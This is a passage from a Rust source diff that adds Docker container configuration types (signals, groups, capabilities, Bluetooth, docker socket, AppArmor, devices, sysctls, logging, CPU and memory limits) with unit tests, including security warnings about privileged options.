+    }
+}
+
+/// Seconds `docker stop` waits after the stop signal before killing the app. `run` also uses it
+/// when stopping a foreground container on Ctrl-C.
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+pub struct StopTimeout(pub u32);
+
+impl ContainerAspect for StopTimeout {
+    fn name(&self) -> String {
+        String::from("StopTimeout")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec![String::from("--stop-timeout"), self.0.to_string()])
+    }
+}
+
+impl TryFrom<&str> for StopTimeout {
+    type Error = Error;
+    fn try_from(s: &str) -> Result<Self> {
+        s.parse::<u32>()
+            .map(StopTimeout)
+            .map_err(|_| Error::InvalidStopTimeout(s.to_string()))
+    }
+}
+
+#[cfg(test)]
+mod stop_should {
+    use super::*;
+
+    #[test]
+    fn emit_stop_flags() -> Result<()> {
+        assert_eq!(
+            StopSignal::try_from("SIGINT")?.run_args(None)?,
+            vec!["--stop-signal", "SIGINT"]
+        );
+        assert_eq!(
+            StopTimeout::try_from("30")?.run_args(None)?,
+            vec!["--stop-timeout", "30"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn accept_names_without_sig_prefix() -> Result<()> {
+        assert_eq!(
+            StopSignal::try_from("USR1")?.run_args(None)?,
+            vec!["--stop-signal", "USR1"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_unknown_signals() {
+        for value in &["", "SIG", "SIGFOO", "sigint", "2", "SIGSIGINT"] {
+            match StopSignal::try_from(*value) {
+                Err(Error::InvalidStopSignal(v)) => assert_eq!(v, *value),
+                other => panic!("expected InvalidStopSignal, got {:?}", other),
+            }
+        }
+        assert!(StopTimeout::try_from("-1").is_err());
+    }
+}
+
+/// Supplementary groups for the container process, e.g. for device access. Group names are
+/// resolved to gids through the host group database when run, since device nodes are owned by the
+/// host's gids; names the host doesn't know are left for docker to resolve inside the container.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct GroupAdd(pub Vec<String>);
+
+impl ContainerAspect for GroupAdd {
+    fn name(&self) -> String {
+        String::from("GroupAdd")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for group in &self.0 {
+            if group.trim().is_empty() {
+                return Err(Error::InvalidGroup(group.clone()));
+            }
+            let gid = match group.parse::<u32>() {
+                Ok(_) => group.clone(),
+                Err(_) => match users::get_group_by_name(group) {
+                    Some(g) => g.gid().to_string(),
+                    None => {
+                        debug!("group {} is unknown on the host, passing it by name", group);
+                        group.clone()
+                    }
+                },
+            };
+            args.push(String::from("--group-add"));
+            args.push(gid);
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod group_add_should {
+    use super::*;
+
+    #[test]
+    fn pass_numeric_gids_through() -> Result<()> {
+        assert_eq!(
+            GroupAdd(vec!["44".to_string(), "29".to_string()]).run_args(None)?,
+            vec!["--group-add", "44", "--group-add", "29"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn resolve_names_on_the_host() -> Result<()> {
+        assert_eq!(
+            GroupAdd(vec!["root".to_string()]).run_args(None)?,
+            vec!["--group-add", "0"]
+        );
+        assert_eq!(
+            GroupAdd(vec!["dfiles-no-such-group".to_string()]).run_args(None)?,
+            vec!["--group-add", "dfiles-no-such-group"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_empty_entries() {
+        match GroupAdd(vec!["video".to_string(), " ".to_string()]).run_args(None) {
+            Err(Error::InvalidGroup(g)) => assert_eq!(g, " "),
+            other => panic!("expected InvalidGroup, got {:?}", other),
+        }
+    }
+}
+
+/// Linux capabilities added to the container, e.g. `NET_ADMIN`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Capabilities(pub Vec<String>);
+
+impl ContainerAspect for Capabilities {
+    fn name(&self) -> String {
+        format!("Capabilities: {}", self.0.join(","))
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(self
+            .0
+            .iter()
+            .flat_map(|cap| vec![String::from("--cap-add"), cap.to_string()])
+            .collect())
+    }
+}
+
+/// Lets apps pair and talk to bluetooth devices through the host's BlueZ daemon over the system
+/// DBus socket. Raw HCI sockets only exist in the host network namespace, so apps that drive the
+/// controller directly rather than through BlueZ additionally need `Network("host")`.
+#[derive(Clone)]
+pub struct Bluetooth {}
+
+impl Bluetooth {
+    const SYSTEM_BUS_SOCKET: &'static str = "/var/run/dbus/system_bus_socket";
+
+    fn run_args_for(&self, sysfs_bluetooth: &Path) -> Result<Vec<String>> {
+        let has_controller = fs::read_dir(sysfs_bluetooth)
+            .map(|entries| {
+                entries
+                    .filter_map(std::result::Result::ok)
+                    .any(|e| e.file_name().to_string_lossy().starts_with("hci"))
+            })
+            .unwrap_or(false);
+        if !has_controller {
+            return Err(Error::MissingBluetoothController);
+        }
+
+        let mut args = vec![
+            String::from("-v"),
+            format!("{0}:{0}", Bluetooth::SYSTEM_BUS_SOCKET),
+        ];
+        args.extend(Capabilities(vec![String::from("NET_ADMIN")]).run_args(None)?);
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for Bluetooth {
+    fn name(&self) -> String {
+        String::from("Bluetooth")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new("/sys/class/bluetooth"))
+    }
+}
+
+#[cfg(test)]
+mod bluetooth_should {
+    use super::*;
+
+    #[test]
+    fn emit_run_args_when_controller_present() -> Result<()> {
+        let sysfs = tempfile::tempdir()?;
+        fs::create_dir(sysfs.path().join("hci0"))?;
+        assert_eq!(
+            Bluetooth {}.run_args_for(sysfs.path())?,
+            vec![
+                "-v",
+                "/var/run/dbus/system_bus_socket:/var/run/dbus/system_bus_socket",
+                "--cap-add",
+                "NET_ADMIN",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_controller() -> Result<()> {
+        let sysfs = tempfile::tempdir()?;
+        match (Bluetooth {}).run_args_for(sysfs.path()) {
+            Err(Error::MissingBluetoothController) => (),
+            other => panic!("expected MissingBluetoothController, got {:?}", other),
+        }
+        match (Bluetooth {}).run_args_for(&sysfs.path().join("missing")) {
+            Err(Error::MissingBluetoothController) => (),
+            other => panic!("expected MissingBluetoothController, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+#[derive(Clone)]
+pub struct SysAdmin {}
+impl ContainerAspect for SysAdmin {
+    fn name(&self) -> String {
+        String::from("SysAdmin")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["--cap-add", "SYS_ADMIN"]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+}
+
+/// Gives the container the host's docker daemon by mounting its socket and installing the docker
+/// CLI, for dev tooling that builds or runs containers.
+///
+/// SECURITY: access to the docker socket is root on the host. Anything in the container can start
+/// a privileged container that mounts the host filesystem, so only use this for apps you would
+/// also run as root outside a container.
+#[derive(Clone)]
+pub struct DockerSocket {}
+
+impl DockerSocket {
+    const SOCKET: &'static str = "/var/run/docker.sock";
+
+    fn run_args_for(&self, socket: &Path) -> Result<Vec<String>> {
+        use std::os::unix::fs::MetadataExt;
+
+        // the socket is owned by the host's docker group, whose gid needn't exist in the image
+        let gid = fs::metadata(socket)
+            .map_err(|_| Error::MissingDockerSocket(socket.to_path_buf()))?
+            .gid();
+        Ok(vec![
+            String::from("-v"),
+            format!("{}:{}", socket.to_string_lossy(), DockerSocket::SOCKET),
+            String::from("--group-add"),
+            gid.to_string(),
+        ])
+    }
+}
+
+impl ContainerAspect for DockerSocket {
+    fn name(&self) -> String {
+        String::from("DockerSocket")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(DockerSocket::SOCKET))
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: AptPackages::install_line(&[String::from("docker.io")]),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod docker_socket_should {
+    use super::*;
+
+    #[test]
+    fn mount_socket_and_add_its_group() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let socket = dir.path().join("docker.sock");
+        fs::write(&socket, "")?;
+        assert_eq!(
+            DockerSocket {}.run_args_for(&socket)?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/var/run/docker.sock", socket.to_string_lossy()),
+                "--group-add".to_string(),
+                users::get_current_gid().to_string(),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_socket() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        match (DockerSocket {}).run_args_for(&dir.path().join("docker.sock")) {
+            Err(Error::MissingDockerSocket(p)) => assert!(p.ends_with("docker.sock")),
+            other => panic!("expected MissingDockerSocket, got {:?}", other),
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn install_docker_cli() {
+        let snippets = DockerSocket {}.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert!(snippets[0].content.contains("\n    docker.io \\\n"));
+        assert!(snippets[0].content.ends_with("rm -rf /src/*.deb"));
+    }
+}
+
+/// Confines the container with the named AppArmor profile, which must already be loaded on the
+/// host, e.g. with `apparmor_parser -r`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct AppArmor(pub String);
+
+impl AppArmor {
+    const SECURITYFS: &'static str = "/sys/kernel/security/apparmor";
+
+    /// Runs the container without AppArmor confinement, not even docker's default profile.
+    pub fn unconfined() -> Self {
+        AppArmor(String::from("unconfined"))
+    }
+
+    /// Why the profile won't take effect on a host whose AppArmor securityfs is at `securityfs`.
+    fn host_warning(&self, securityfs: &Path) -> Option<String> {
+        if self.0 == "unconfined" || securityfs.exists() {
+            return None;
+        }
+        Some(format!(
+            "AppArmor isn't enabled on this host, profile `{}` won't be applied",
+            self.0
+        ))
+    }
+}
+
+impl ContainerAspect for AppArmor {
+    fn name(&self) -> String {
+        format!("AppArmor: {}", self.0)
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        if let Some(warning) = self.host_warning(Path::new(AppArmor::SECURITYFS)) {
+            warn!("{}", warning);
+        }
+        Ok(vec![
+            String::from("--security-opt"),
+            format!("apparmor={}", self.0),
+        ])
+    }
+}
+
+#[cfg(test)]
+mod apparmor_should {
+    use super::*;
+
+    #[test]
+    fn emit_security_opt() -> Result<()> {
+        assert_eq!(
+            AppArmor(String::from("dfiles-firefox")).run_args(None)?,
+            vec!["--security-opt", "apparmor=dfiles-firefox"]
+        );
+        assert_eq!(
+            AppArmor::unconfined().run_args(None)?,
+            vec!["--security-opt", "apparmor=unconfined"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn warn_when_host_lacks_apparmor() -> Result<()> {
+        let securityfs = tempfile::tempdir()?;
+        let profile = AppArmor(String::from("dfiles-firefox"));
+        assert_eq!(profile.host_warning(securityfs.path()), None);
+
+        let warning = profile.host_warning(&securityfs.path().join("apparmor"));
+        assert!(warning.expect("warning").contains("dfiles-firefox"));
+
+        assert_eq!(
+            AppArmor::unconfined().host_warning(&securityfs.path().join("apparmor")),
+            None
+        );
+        Ok(())
+    }
+}
+
+/// Stops processes in the container from gaining privileges through setuid binaries. That
+/// includes `sudo`, so it doesn't combine with the entrypoint: entrypoint fns re-exec through sudo
+/// to run as root and fail unless the container already runs as root.
+#[derive(Clone)]
+pub struct NoNewPrivileges {}
+
+impl ContainerAspect for NoNewPrivileges {
+    fn name(&self) -> String {
+        String::from("NoNewPrivileges")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec![
+            String::from("--security-opt"),
+            String::from("no-new-privileges"),
+        ])
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        vec![Conflict {
+            aspect: String::from(ENTRYPOINT),
+            severity: Severity::Warn,
+            reason: String::from(
+                "sudo can't gain root, so entrypoint setup steps will fail unless the container \
+                 runs as root",
+            ),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod no_new_privileges_should {
+    use super::*;
+
+    #[test]
+    fn emit_security_opt() -> Result<()> {
+        assert_eq!(
+            NoNewPrivileges {}.run_args(None)?,
+            vec!["--security-opt", "no-new-privileges"]
+        );
+        Ok(())
+    }
+}
+
+/// Arbitrary host device access, eg serial ports or FTDI adapters, without a bespoke aspect.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Device {
+    pub host: String,
+    pub container: Option<String>,
+    pub permissions: Option<String>,
+}
+
+impl ContainerAspect for Device {
+    fn name(&self) -> String {
+        format!("Device: {}", self.host)
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut device = self.host.clone();
+        if let Some(p) = &self.permissions {
+            if p.is_empty() || !p.chars().all(|c| "rwm".contains(c)) {
+                return Err(Error::InvalidDevice(format!("{}:{}", self.host, p)));
+            }
+        }
+        match (&self.container, &self.permissions) {
+            (Some(c), Some(p)) => device = format!("{}:{}:{}", device, c, p),
+            (Some(c), None) => device = format!("{}:{}", device, c),
+            (None, Some(p)) => device = format!("{0}:{0}:{1}", device, p),
+            (None, None) => (),
+        }
+        Ok(vec![String::from("--device"), device])
+    }
+}
+
+#[cfg(test)]
+mod device_should {
+    use super::*;
+
+    fn device(container: Option<&str>, permissions: Option<&str>) -> Device {
+        Device {
+            host: "/dev/ttyUSB0".to_string(),
+            container: container.map(String::from),
+            permissions: permissions.map(String::from),
+        }
+    }
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        assert_eq!(
+            device(None, None).run_args(None)?,
+            vec!["--device", "/dev/ttyUSB0"]
+        );
+        assert_eq!(
+            device(Some("/dev/ttyACM0"), None).run_args(None)?,
+            vec!["--device", "/dev/ttyUSB0:/dev/ttyACM0"]
+        );
+        assert_eq!(
+            device(Some("/dev/ttyACM0"), Some("rw")).run_args(None)?,
+            vec!["--device", "/dev/ttyUSB0:/dev/ttyACM0:rw"]
+        );
+        assert_eq!(
+            device(None, Some("rwm")).run_args(None)?,
+            vec!["--device", "/dev/ttyUSB0:/dev/ttyUSB0:rwm"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_invalid_permissions() {
+        assert!(device(None, Some("rwx")).run_args(None).is_err());
+        assert!(device(None, Some("")).run_args(None).is_err());
+    }
+}
+
+/// Gives the container full access to all host devices and lifts most of the kernel level
+/// confinement docker normally applies.
+///
+/// SECURITY: this is a footgun; a privileged container can trivially take over the host. Prefer
+/// `Device` or a capability-specific aspect like `SysAdmin` whenever possible.
+#[derive(Clone)]
+pub struct Privileged {}
+impl ContainerAspect for Privileged {
+    fn name(&self) -> String {
+        String::from("Privileged")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec![String::from("--privileged")])
+    }
+}
+
+#[cfg(test)]
+mod privileged_should {
+    use super::*;
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        assert_eq!(Privileged {}.run_args(None)?, vec!["--privileged"]);
+        Ok(())
+    }
+}
+
+/// Namespaced kernel parameters; docker only allows those under the `net.` and `kernel.` (IPC)
+/// namespaces to be set per container.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Sysctl(pub Vec<(String, String)>);
+
+impl Sysctl {
+    /// Parses a single `key=value` entry.
+    pub fn parse(value: &str) -> Result<(String, String)> {
+        match value.find('=') {
+            Some(i) => {
+                let (key, v) = (&value[..i], &value[i + 1..]);
+                validate_sysctl(key, v)?;
+                Ok((key.to_string(), v.to_string()))
+            }
+            None => Err(Error::InvalidSysctl(value.to_string())),
+        }
+    }
+}
+
+fn validate_sysctl(key: &str, value: &str) -> Result<()> {
+    let namespaced = ["net.", "kernel."]
+        .iter()
+        .any(|ns| key.starts_with(ns) && key.len() > ns.len());
+    if !namespaced || value.is_empty() {
+        return Err(Error::InvalidSysctl(format!("{}={}", key, value)));
+    }
+    Ok(())
+}
+
+impl ContainerAspect for Sysctl {
+    fn name(&self) -> String {
+        String::from("Sysctl")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for (key, value) in &self.0 {
+            validate_sysctl(key, value)?;
+            args.push(String::from("--sysctl"));
+            args.push(format!("{}={}", key, value));
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod sysctl_should {
+    use super::*;
+
+    #[test]
+    fn allow_net_and_kernel_namespaces() -> Result<()> {
+        let sysctl = Sysctl(vec![
+            Sysctl::parse("net.ipv4.ip_forward=1")?,
+            Sysctl::parse("kernel.shmmax=68719476736")?,
+        ]);
+        assert_eq!(
+            sysctl.run_args(None)?,
+            vec![
+                "--sysctl",
+                "net.ipv4.ip_forward=1",
+                "--sysctl",
+                "kernel.shmmax=68719476736",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_other_namespaces() {
+        assert!(Sysctl::parse("vm.swappiness=10").is_err());
+        assert!(Sysctl::parse("network.foo=1").is_err());
+        assert!(Sysctl::parse("net.=1").is_err());
+        assert!(Sysctl::parse("net.ipv4.ip_forward").is_err());
+        assert!(
+            Sysctl(vec![("vm.swappiness".to_string(), "10".to_string())])
+                .run_args(None)
+                .is_err()
+        );
+    }
+}
+
+/// Sends the container's output to a docker logging driver, e.g. journald for detached apps.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct LogDriver {
+    pub driver: String,
+    pub options: Vec<(String, String)>,
+}
+
+impl LogDriver {
+    /// The drivers built into docker; plugins aren't supported.
+    const DRIVERS: &'static [&'static str] = &[
+        "none",
+        "local",
+        "json-file",
+        "syslog",
+        "journald",
+        "gelf",
+        "fluentd",
+        "awslogs",
+        "splunk",
+        "etwlogs",
+        "gcplogs",
+        "logentries",
+    ];
+
+    pub fn new(driver: &str, options: Vec<(String, String)>) -> Result<Self> {
+        let log_driver = LogDriver {
+            driver: driver.to_string(),
+            options,
+        };
+        log_driver.validate()?;
+        Ok(log_driver)
+    }
+
+    /// Parses a single `key=value` driver option.
+    pub fn parse_option(value: &str) -> Result<(String, String)> {
+        match value.find('=') {
+            Some(i) if i > 0 => Ok((value[..i].to_string(), value[i + 1..].to_string())),
+            _ => Err(Error::InvalidLogOpt(value.to_string())),
+        }
+    }
+
+    fn validate(&self) -> Result<()> {
+        if !LogDriver::DRIVERS.contains(&self.driver.as_str()) {
+            return Err(Error::InvalidLogDriver(self.driver.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for LogDriver {
+    fn name(&self) -> String {
+        format!("LogDriver: {}", self.driver)
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        let mut args = vec![String::from("--log-driver"), self.driver.clone()];
+        for (key, value) in &self.options {
+            args.push(String::from("--log-opt"));
+            args.push(format!("{}={}", key, value));
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod log_driver_should {
+    use super::*;
+
+    #[test]
+    fn emit_driver_and_options() -> Result<()> {
+        let log_driver = LogDriver::new(
+            "json-file",
+            vec![
+                LogDriver::parse_option("max-size=10m")?,
+                LogDriver::parse_option("labels=app=dfiles")?,
+            ],
+        )?;
+        assert_eq!(
+            log_driver.run_args(None)?,
+            vec![
+                "--log-driver",
+                "json-file",
+                "--log-opt",
+                "max-size=10m",
+                "--log-opt",
+                "labels=app=dfiles",
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_unknown_driver() {
+        match LogDriver::new("journal", Vec::new()) {
+            Err(Error::InvalidLogDriver(d)) => assert_eq!(d, "journal"),
+            other => panic!("expected InvalidLogDriver, got {:?}", other),
+        }
+        let log_driver = LogDriver {
+            driver: String::from("stdout"),
+            options: Vec::new(),
+        };
+        assert!(log_driver.run_args(None).is_err());
+    }
+
+    #[test]
+    fn reject_malformed_options() {
+        assert!(LogDriver::parse_option("max-size").is_err());
+        assert!(LogDriver::parse_option("=10m").is_err());
+    }
+}
+
+#[derive(Clone)]
+pub struct TTY {}
+impl ContainerAspect for TTY {
+    fn name(&self) -> String {
+        String::from("TTY")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["-i", "-t"].into_iter().map(String::from).collect())
+    }
+}
+
+#[derive(Clone)]
+pub struct Shm {}
+impl ContainerAspect for Shm {
+    fn name(&self) -> String {
+        String::from("Shm")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["-v", "/dev/shm:/dev/shm"]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+}
+
+/// Pins the container to the given cpus and, optionally, NUMA memory nodes; both are lists like
+/// `0-3,5`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct CpuSet {
+    pub cpus: String,
+    pub mems: Option<String>,
+}
+
+impl CpuSet {
+    pub fn new(cpus: &str, mems: Option<&str>) -> Result<Self> {
+        parse_cpuset_list(cpus)?;
+        if let Some(m) = mems {
+            parse_cpuset_list(m)?;
+        }
+        Ok(CpuSet {
+            cpus: cpus.to_string(),
+            mems: mems.map(String::from),
+        })
+    }
+}
+
+impl ContainerAspect for CpuSet {
+    fn name(&self) -> String {
+        String::from("CpuSet")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let cpuset = CpuSet::new(&self.cpus, self.mems.as_deref())?;
+        let mut args = vec![String::from("--cpuset-cpus"), cpuset.cpus];
+        if let Some(mems) = cpuset.mems {
+            args.push(String::from("--cpuset-mems"));
+            args.push(mems);
+        }
+        Ok(args)
+    }
+}
+
+/// Parses a cpuset list such as `0-3,5` into inclusive `(first, last)` ranges.
+fn parse_cpuset_list(list: &str) -> Result<Vec<(u32, u32)>> {
+    let invalid = || Error::InvalidCpuSet(list.to_string());
+    list.split(',')
+        .map(|item| {
+            let mut bounds = item.splitn(2, '-').map(|b| b.parse::<u32>());
+            let first = bounds.next().ok_or_else(invalid)?.map_err(|_| invalid())?;
+            let last = match bounds.next() {
+                Some(b) => b.map_err(|_| invalid())?,
+                None => first,
+            };
+            if last < first {
+                return Err(invalid());
+            }
+            Ok((first, last))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod cpuset_should {
+    use super::*;
+
+    #[test]
+    fn parse_valid_ranges() -> Result<()> {
+        assert_eq!(parse_cpuset_list("0-3,5")?, vec![(0, 3), (5, 5)]);
+        assert_eq!(parse_cpuset_list("7")?, vec![(7, 7)]);
+        assert_eq!(
+            CpuSet::new("0-3,5", Some("0"))?.run_args(None)?,
+            vec!["--cpuset-cpus", "0-3,5", "--cpuset-mems", "0"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_malformed_lists() {
+        for list in &["", "0-", "-3", "3-1", "0,,1", "a-b", "0-3,5-"] {
+            match parse_cpuset_list(list) {
+                Err(Error::InvalidCpuSet(s)) => assert_eq!(&s, list),
+                other => panic!("expected InvalidCpuSet for {:?}, got {:?}", list, other),
+            }
+        }
+    }
+}
+
+/// Caps the number of processes in the container, `-1` meaning unlimited.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct PidsLimit(pub i64);
+
+impl PidsLimit {
+    fn validate(&self) -> Result<()> {
+        if self.0 == 0 || self.0 < -1 {
+            return Err(Error::InvalidPidsLimit(self.0.to_string()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for PidsLimit {
+    fn name(&self) -> String {
+        String::from("PidsLimit")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec![String::from("--pids-limit"), self.0.to_string()])
+    }
+}
+
+impl TryFrom<&str> for PidsLimit {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        let limit = value
+            .parse::<i64>()
+            .map(PidsLimit)
+            .map_err(|_| Error::InvalidPidsLimit(value.to_string()))?;
+        limit.validate()?;
+        Ok(limit)
+    }
+}
+
+#[cfg(test)]
+mod pids_limit_should {
+    use super::*;
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        assert_eq!(
+            PidsLimit::try_from("256")?.run_args(None)?,
+            vec!["--pids-limit", "256"]
+        );
+        assert_eq!(
+            PidsLimit::try_from("-1")?.run_args(None)?,
+            vec!["--pids-limit", "-1"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_zero_and_garbage() {
+        assert!(PidsLimit::try_from("0").is_err());
+        assert!(PidsLimit::try_from("-2").is_err());
+        assert!(PidsLimit::try_from("lots").is_err());
+        assert!(PidsLimit(0).run_args(None).is_err());
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct CPUShares(pub String);
+impl ContainerAspect for CPUShares {
+    fn name(&self) -> String {
+        String::from("CPUShares")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["--cpu-shares", self.0.as_str()]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+}
+
+impl TryFrom<&str> for CPUShares {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        Ok(CPUShares(value.to_string()))
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Memory(pub String);
+impl ContainerAspect for Memory {
+    fn name(&self) -> String {
+        String::from("Memory")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(vec!["--memory", self.0.as_str()]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+}
+
+impl TryFrom<&str> for Memory {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        parse_memory(value)?;
+        Ok(Memory(value.to_string()))
+    }
+}
+
+/// Parses a docker memory string such as `512m`, `1.5g`, `2 GiB` or `1tb` into bytes, accepting
+/// the same suffixes as docker itself.
+fn parse_memory(value: &str) -> Result<u64> {
+    let invalid = || Error::InvalidMemory(value.to_string());
+    let lower = value.to_ascii_lowercase();
+    let (number, suffix) = match lower
+        .char_indices()
+        .find(|(_, c)| !c.is_ascii_digit() && *c != '.')
+    {
+        Some((i, _)) => lower.split_at(i),
+        None => (lower.as_str(), ""),
+    };
+    let suffix = suffix.strip_prefix(' ').unwrap_or(suffix);
+    let (unit, rest) = match suffix.chars().next() {
+        Some(c) if "kmgtp".contains(c) => suffix.split_at(1),
+        _ => ("", suffix),
+    };
+    let rest = rest.strip_prefix('i').unwrap_or(rest);
+    if !(rest.is_empty() || rest == "b") {
+        return Err(invalid());
+    }
+    let exponent = match unit {
+        "" => 0,
+        "k" => 1,
+        "m" => 2,
+        "g" => 3,
+        "t" => 4,
+        _ => 5,
+    };
+    if number.is_empty() || number.starts_with('.') || number.ends_with('.') {
+        return Err(invalid());
+    }
+    let bytes = number.parse::<f64>().map_err(|_| invalid())? * 1024f64.powi(exponent);
+    if bytes >= u64::MAX as f64 {
+        return Err(invalid());
+    }
+    Ok(bytes as u64)
+}
+
+/// Total memory plus swap the container may use, or `-1` for unlimited swap. docker requires it
+/// to be at least the `--memory` limit; use `MemoryLimits` to have that checked.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct MemorySwap(pub String);
+
+impl MemorySwap {
+    /// `None` means unlimited.
+    fn bytes(&self) -> Result<Option<u64>> {
+        match self.0.as_str() {
+            "-1" => Ok(None),
+            v => parse_memory(v).map(Some),
+        }
+    }
+}
+
+impl TryFrom<&str> for MemorySwap {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        let swap = MemorySwap(value.to_string());
+        swap.bytes()?;
+        Ok(swap)
+    }
+}
+
+impl ContainerAspect for MemorySwap {
+    fn name(&self) -> String {
+        String::from("MemorySwap")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.bytes()?;
+        Ok(vec![String::from("--memory-swap"), self.0.clone()])
+    }
+}
+
+/// Soft memory limit docker reclaims towards when the host runs low on memory.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct MemoryReservation(pub String);
+
+impl TryFrom<&str> for MemoryReservation {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        parse_memory(value)?;
+        Ok(MemoryReservation(value.to_string()))
+    }
+}
+
+impl ContainerAspect for MemoryReservation {
+    fn name(&self) -> String {
+        String::from("MemoryReservation")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        parse_memory(&self.0)?;
+        Ok(vec![String::from("--memory-reservation"), self.0.clone()])
+    }
+}
+
+/// `Memory`, `MemorySwap` and `MemoryReservation` checked against each other the way docker
+/// does: swap must be at least the memory limit and the reservation at most the memory limit.
+/// `Config` emits the memory limit through it so limits from different layers are checked once
+/// they are merged.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct MemoryLimits {
+    pub memory: Memory,
+    pub swap: Option<MemorySwap>,
+    pub reservation: Option<MemoryReservation>,
+}
+
+impl MemoryLimits {
+    pub fn new(
+        memory: Memory,
+        swap: Option<MemorySwap>,
+        reservation: Option<MemoryReservation>,
+    ) -> Result<Self> {
+        let limits = MemoryLimits {
+            memory,
+            swap,
+            reservation,
+        };
+        limits.check()?;
+        Ok(limits)
+    }
+
+    fn check(&self) -> Result<()> {
+        let limit = parse_memory(&self.memory.0)?;
+        if let Some(s) = &self.swap {
+            if let Some(bytes) = s.bytes()? {
+                if bytes < limit {
+                    return Err(Error::InvalidMemory(format!(
+                        "memory-swap {} is less than memory {}",
+                        s.0, self.memory.0
+                    )));
+                }
+            }
+        }
